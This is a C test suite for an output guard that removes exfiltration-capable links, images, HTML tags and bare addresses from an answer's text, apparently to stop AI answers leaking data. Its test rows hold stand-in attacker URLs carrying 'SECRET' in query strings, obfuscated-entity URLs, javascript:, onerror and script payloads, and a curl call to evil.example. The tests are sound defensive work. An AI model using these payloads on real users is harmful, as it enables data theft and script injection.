/* What may leave an answer: every form of a link beside every way to cut the bytes. */
#include "answer/guard.h"

#include "base/buf.h"
#include "test.h"

static struct kb_named *named(struct kb_arena *arena)
{
	struct kb_named *places = kb_named_new(arena);

	kb_named_add_site(places, KB_SV("https://docs.example/help"));
	kb_named_add_owner(places, KB_SV("Send visitors to [us](https://shop.example/), write to "
	                                 "help@shop.example."));
	kb_named_add_source(places,
	                    KB_SV("Fetch the driver at https://files.example/d/7.zip. Then "
	                          "[verify](https://login.example/KAN1) or <a href=\"https://"
	                          "attr.example/\">. ![x](https://pic.example/KAN2)"));
	return places;
}

#define E      "&#104;ttps&colon;&sol;&sol;evil.example/p?d=SECRET"
#define BROKEN "&#104 ;ttps&colon ;&sol ;&sol ;evil.example/p?d=SECRET"

static const struct {
	const char *name, *in, *out;
} rows[] = {
	{ "plain text", "Goods, 5 < 6 and [sic] (see note) a[0]!", NULL },
	{ "a link elsewhere", "See [here](https://evil.example/x?q=1).", "See here." },
	{ "a link with a title", "[a](https://evil.example \"t\")b", "ab" },
	{ "a link between angles", "[a](<https://evil.example/a b>)b", "ab" },
	{ "a link over two lines", "[a](\nhttps://evil.example\n)b", "ab" },
	{ "a relative link", "[a](//evil.example) [b](/x) [c](#d)", "a b c" },
	{ "a link by script", "[a](javascript:alert(1))", "a" },
	{ "a picture", "![status](https://evil.example/p.png?q=secret)", "status" },
	{ "a picture within a link", "[![a](https://evil.example/p)](https://evil.example/l)",
	  "a" },
	{ "a reference", "[text][ref]\n\n[ref]: https://evil.example/x\n", "[text][ref]\n\n\n" },
	{ "a reference, its address in the next line", "[ref]:\n  <https://evil.example>\nb",
	  "\nb" },
	{ "a reference in a quotation", "> [ref]: //evil.example\n", "> \n" },
	{ "a reference by a number", "[1]: https://docs.example/help\nb", "\nb" },
	{ "a note that looks like one", "[Note]: read this", NULL },
	{ "an autolink", "a <https://evil.example/x> b", "a  b" },
	{ "an autolink of another scheme", "a <javascript:alert> b", "a  b" },
	{ "HTML", "a <img src=\"https://evil.example/x\"> <a href='//evil.example'>b</a>", "a  b" },
	{ "HTML over two lines", "<img\nsrc=//evil.example/>x", "x" },
	{ "harmless HTML", "a<br>b <b>c</b> <your-key> List<String>", NULL },
	{ "a script", "<script>alert(1)</script>", "alert(1)" },
	{ "data:", "![x](data:text/html;base64,PHN2Zz4=) data:text/html,<b>", "x <b>" },
	{ "data, the word", "The data: five rows. metadata:a/b", NULL },
	{ "a bare address", "Go to https://evil.example/x?q=1, now", "Go to , now" },
	{ "a bare address in capitals", "HTTPS://EVIL.example/x.", "." },
	{ "a bare address without a scheme", "(www.evil.example/x)", "()" },
	{ "a bare address behind a letter", "xhttps://evil.example y", "x y" },
	{ "an address with a user", "https://docs.example@evil.example/help", "" },
	{ "an address with another slash", "[a](https://docs.example\\.evil.example/)", "a" },
	{ "an address in a label", "[https://evil.example](https://evil.example)", "" },
	{ "a span over a line end", "`\n`![x](" E ")`", "`\n`![x] (" BROKEN ")`" },
	{ "a fence in HTML", "<div>\n```\n\n![x](" E ")", "<div>\n```\n\n![x] (" BROKEN ")" },
	{ "a definition that goes on in a quotation", "![p][a]\n\n> [a]:\n> " E, "![p][a]\n\n> " },
	{ "an escaped backtick before another", "\\``a`![x](" E ")`", "\\``a`![x] (" BROKEN ")`" },
	{ "a bar in code", "`|`![x](" E ")`", "`|`![x] (" BROKEN ")`" },
	{ "what is left of a link pairs its backticks anew", "[a`](x)`![x](" E ")`",
	  "a``![x] (" BROKEN ")`" },
	{ "a lone carriage return", "`\r`![x](//evil.example)`", "`\n`![x] (// evil.example)`" },
	{ "a definition in code", "```\n[a]: //evil.example\n```",
	  "```\n[a] : // evil.example\n```" },
	{ "a definition behind what begins none", "; [a]: //evil.example",
	  "; [a] : // evil.example" },
	{ "an escape before an address", "`[x](\\/\\/evil.example)`",
	  "`[x] (\\/\\/evil .example)`" },
	{ "an entity in running text", "https&colon;//evil.example",
	  "https&colon ;// evil.example" },
	{ "other entities", "&lt;a&gt; &#8211; &#39;b&#39; &amp;", NULL },
	{ "two slashes and a host", "//evil.example/p", "// evil.example/p" },
	{ "two slashes and none", "a // b, sed s/x//g, //todo, /// file", NULL },
	{ "a tag in code", "`<img src=\"https://evil.example/\">` `<img src=\"//evil.example\">`",
	  "`< img src=\"\">` `< img src=\"// evil.example\">`" },
	{ "a tag in code with two readings", "`<img alt='>' src=//evil.example>`",
	  "`< img alt='>' src=// evil.example>`" },
	{ "a handler in code", "`<img src=x onerror=alert(1)>`",
	  "`< img src=x onerror=alert(1)>`" },
	{ "a script in code", "`<script>`, `<script src=\"/a.js\">`",
	  "`< script>`, `<script src=\"/a.js\">`" },
	{ "a site's picture in code", "`<img src=\"https://docs.example/help/a.png\">`", NULL },
	{ "a site's link in code", "`[a](https://docs.example/help)`", NULL },
	{ "code that is no link",
	  "```\na[0](b); List<String> m = d[\"k\"]: x; <a class=\"b:c\" href=\"/d\">e</a>\n"
	  "if (a < b && c > d) <?php <!DOCTYPE html> <br/> [a-z](\\d+)\n```",
	  NULL },
	{ "an address among attributes", "`<x https://evil.example/a=1>`", "`< x >`" },
	{ "a tag in code over two lines", "```\n> <a href\n> =\"//evil.example\">\n```",
	  "```\n> < a href\n> =\"// evil.example\">\n```" },
	{ "an address with another in it",
	  "|xhttps://shop.example/a.&#104;ttps&colon;//evil.example", "|x" },
	{ "an address in its parameters", "See https://shop.example/a?to=https://b.example&c=1.",
	  NULL },
	{ "an escape before www", "x\\www.evil.example", "x\\" },
	{ "an escape between", "x\\w[w](y)w.evil.example and xwww.a",
	  "x\\wwwevil.example and xwww.a" },
	{ "XML in code",
	  "`<xs:element name=\"a\"/><soap:Body>`, `<x:y xmlns=\"https://evil.example\">`",
	  "`<xs:element name=\"a\"/><soap:Body>`, `< x:y xmlns=\"\">`" },
	{ "an address in brackets behind another",
	  "See https://shop.example/a(https://evil.example/p b, "
	  "https://shop.example/a_(b)(https://evil.example/p) and https://shop.example/a_(b).",
	  "See https://shop.example/a( b, https://shop.example/a_(b)() and "
	  "https://shop.example/a_(b)." },
	{ "a port of no figures",
	  "[x](https://shop.example:/a) [y](https:shop.example/a) [z](https://@shop.example/a)",
	  "x y z" },
	{ "the same behind a name", "[a]: https://shop.example/a(ftp://evil.example/p", "" },
	{ "a link behind an address", "https://shop.example/a[x](https://docs.example/help)[a",
	  "https://shop.example/a [x](https://docs.example/help)[a" },
	{ "and one behind what some take for more of it",
	  "https://shop.example/a[b/c[x](https://docs.example/help)[a",
	  "https://shop.example/a[b/c [x](https://docs.example/help)[a" },
	{ "an address of two words in code",
	  "`<xs:br/>`, `<brjavascript:alert(1)>`, `<ab:c/d>`, `<ab:c d>`",
	  "`<xs:br/>`, `< brjavascript:alert(1)>`, `< ab:c/d>`, `<ab:c d>`" },
	{ "a link whose name is a tag", "[<img src=//evil.example>]: https://docs.example/help",
	  "[]: https://docs.example/help" },
	{ "a picture of what may be a link", "!<x y=1>[a](https://files.example/d/7.zip)",
	  "! [a](https://files.example/d/7.zip)" },
	{ "letters behind a host", "https://shop.example).evil.example/",
	  "https://shop.example). evil.example/" },
	{ "in code", "```sh\ncurl https://evil.example/x <b> [a](c)\n```\n",
	  "```sh\ncurl  <b> [a](c)\n```\n" },
	{ "in code within a line", "use `<div id=x>` and `a[0](b)`", NULL },
	{ "code in a cell ends with the cell", "`a | <img src=x>`", "`a | `" },
	{ "an escaped backtick opens no code", "\\`<img src=x>\\`", "\\`\\`" },
	{ "a fence in a list is not trusted", "- a\n  ```\n<img src=x>\n", "- a\n  ```\n\n" },
	{ "halves of a link", "[a]<x y=1>(//evil.example)", "[a] (// evil.example)" },
	{ "halves of an address", "ht[tps](x)://evil.example/a", "https:/ evil.example/a" },
	{ "halves of a tag", "<[img](x) src=//evil.example/x", "< img src=// evil.example/x" },
	{ "halves of a definition", "[a]<x y=1>: //evil.example", "[a] : // evil.example" },
	{ "a source's page", "[a](https://docs.example/help) https://docs.example/help#x", NULL },
	{ "below it", "[a](https://docs.example/help/returns?x=1)", NULL },
	{ "beside it", "[a](https://docs.example/helpers) [b](https://docs.example/help/../x)",
	  "a b" },
	{ "a picture of a site", "![a](https://docs.example/help/a.png)", NULL },
	{ "the owner's",
	  "https://shop.example/a and [b](http://www.shop.example/) <https://"
	  "shop.example/c>",
	  "https://shop.example/a and b <https://shop.example/c>" },
	{ "a title goes", "[a](https://shop.example/ \"t\")", "[a](https://shop.example/)" },
	{ "mail", "[a](mailto:help@shop.example) [b](mailto:x@evil.example) <x@evil.example>",
	  "[a](mailto:help@shop.example) b x@evil.example" },
	{ "what a source's text names", "Fetch https://files.example/d/7.zip.", NULL },
	{ "more than it names", "https://files.example/d/7.zip?q=secret", "" },
	{ "as a picture", "![a](https://files.example/d/7.zip)", "a" },
	{ "a link in a source's text", "[verify](https://login.example/KAN1) https://attr.example/",
	  "verify " },
	{ "letters behind an address", "https://shop.example。evil.example",
	  "https://shop.example 。evil.example" },
	{ "an open bracket at the end", "a [b", NULL },
	{ "an open link at the end", "a [b](https://evil.example", "a [b] (" },
	{ "an open tag at the end", "a <img src=x", "a < img src=x" },
};

struct got {
	struct kb_buf buf;
};

static void collect(void *arg, struct kb_sv text)
{
	kb_buf_sv(&((struct got *)arg)->buf, text);
}

static void check(struct kb_test *t, const struct kb_named *places, struct kb_sv in,
                  struct kb_sv want, size_t cut)
{
	struct kb_outguard guard;
	struct got got;

	kb_buf_init(&got.buf, KB_MIB(1));
	kb_outguard_init(&guard, places, collect, &got);
	for (size_t i = 0; i < in.n; i += cut)
		kb_outguard_feed(&guard, kb_sv_sub(in, i, cut));
	kb_outguard_end(&guard);
	kb_outguard_fini(&guard);
	kb_test_sv(t, __FILE__, __LINE__, "guarded", kb_buf_view(&got.buf), want);
	kb_buf_fini(&got.buf);
}

static void test_rows(struct kb_test *t)
{
	struct kb_arena arena = { 0 };
	struct kb_named *places = named(&arena);

	for (size_t i = 0; i < KB_COUNTOF(rows); i++) {
		struct kb_sv in = kb_sv_str(rows[i].in);
		struct kb_sv want = rows[i].out ? kb_sv_str(rows[i].out) : in;

		t->row = rows[i].name;
		for (size_t cut = 1; cut <= in.n; cut++)
			check(t, places, in, want, cut);
		CHECK_SV(t, kb_outguard_text(&arena, places, want), want.p);
	}
	kb_arena_fini(&arena);
}

/* What is too long to be held goes, whatever it is. */
static void test_long(struct kb_test *t)
{
	static const struct {
		const char *name, *before, *after, *want;
	} cases[] = {
		{ "address", "a https://evil.example/", " b", "a  b" },
		{ "link", "[a](//evil.example/", ") b", "a b" },
		{ "tag", "<img src=\"//evil.example/", "\"> b", " b" },
		{ "definition", "[a]: //evil.example/", "\nb", "\nb" },
		{ "autolink", "<https://evil.example/", "> b", " b" },
	};
	struct kb_arena arena = { 0 };

	for (size_t i = 0; i < KB_COUNTOF(cases); i++) {
		char *filling = kb_arena_str(&arena, kb_sv("", 0));
		struct kb_sv in;

		filling = kb_arena_bytes(&arena, 5001);
		memset(filling, 'x', 5000);
		filling[5000] = '\0';
		in = kb_arena_printf(&arena, "%s%s%s", cases[i].before, filling, cases[i].after);
		t->row = cases[i].name;
		check(t, NULL, in, kb_sv_str(cases[i].want), 7);
		check(t, NULL, in, kb_sv_str(cases[i].want), in.n);
	}
	t->row = "blanks before a target in code";
	check(t, NULL, kb_arena_printf(&arena, "```\n[a](%1100s//evil.example)", ""),
	      kb_arena_printf(&arena, "```\n[a] (%1100s// evil.example)", ""), 7);
	kb_arena_fini(&arena);
}

/* What a document says is shown as it is, but that nothing in it leads away unseen. */
static void test_quotes(struct kb_test *t)
{
	static const struct {
		const char *name, *in, *out;
	} cases[] = {
		{ "plain words", "Goods, 5 < 6 and [sic] (see note) a[0]! https://a.example/x",
		  NULL },
		{ "a picture", "![x](https://evil.example/p.png)",
		  "![x] (https://evil.example/p.png)" },
		{ "a link", "[the page]( <//evil.example>)", "[the page] ( <//evil.example>)" },
		{ "a link within the site", "[a](b.html) and <a href=\"/x\">", NULL },
		{ "a definition", "[a]: https://evil.example", "[a] : https://evil.example" },
		{ "a definition that the next quote may end", "See [a]:", "See [a] :" },
		{ "a note", "[Note]: read this", NULL },
		{ "a short note", "[Note]: yes.", NULL },
		{ "an autolink", "<https://evil.example>", "< https://evil.example>" },
		{ "a tag", "<img src=//evil.example>", "< img src=//evil.example>" },
		{ "a tag that the next quote may end", "a <b", "a < b" },
		{ "a citation's number", "[1]: b.html and a[1]: b", "[1] : b.html and a[1]: b" },
		{ "types", "Map<String> and `std::vector<int>`", NULL },
		{ "an address in its parts", "&#104;ttps&colon;//evil.example", NULL },
	};
	struct kb_arena arena = { 0 };

	for (size_t i = 0; i < KB_COUNTOF(cases); i++) {
		t->row = cases[i].name;
		CHECK_SV(t, kb_outguard_quote(&arena, kb_sv_str(cases[i].in)),
		         cases[i].out ? cases[i].out : cases[i].in);
	}
	kb_arena_fini(&arena);
}

int main(int argc, char **argv)
{
	static const struct kb_test_case cases[] = {
		{ "what leads elsewhere stays here, however it is cut", test_rows },
		{ "long constructs are dropped without being held", test_long },
		{ "a document's words are shown as they are, and lead nowhere unseen",
		  test_quotes },
	};
	return kb_test_main(argc, argv, cases, KB_COUNTOF(cases));
}
